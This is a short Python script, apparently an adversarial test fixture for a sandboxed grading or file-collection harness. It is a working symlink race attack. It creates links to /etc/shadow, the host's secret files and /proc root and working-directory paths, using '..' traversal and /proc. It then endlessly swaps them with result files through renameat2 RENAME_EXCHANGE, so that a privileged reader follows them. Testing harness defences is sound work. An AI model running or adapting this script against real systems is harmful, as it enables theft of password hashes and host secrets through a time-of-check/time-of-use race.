"""Replaces results by links to the host's files and back, as fast as possible, until it is killed."""

import ctypes
import os

EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)
host = open("/solution/host").read().split()[1]

os.makedirs("/srv/shelf/box", exist_ok=True)
open("/srv/shelf/box/note", "w").write("of the saboteur")
open("/app/sum.txt", "w").write("of the saboteur")
pairs = []
# A result file, a declared root, and a parent folder of it; by absolute paths, by `..` and through /proc.
for place, targets in {
    "/app/sum.txt": ["/etc/shadow", f"{host}/secret", "../../../../../../etc/machine-id", f"/proc/1/root{host}/secret"],
    "/srv/shelf/box": [f"{host}/box", f"../../../../../../../../{host}/box", "/proc/1/cwd"],
    "/srv/shelf": [host, f"../../../../../../../..{host}", "/proc/self/fd/7"],
}.items():
    for number, target in enumerate(targets):
        link = f"/var/tmp/{place.replace('/', '-')}{number}"
        os.symlink(target, link)
        pairs.append((link.encode(), place.encode()))
while True:
    for link, place in pairs:
        for _ in range(2):
            libc.renameat2(-100, link, -100, place, EXCHANGE)
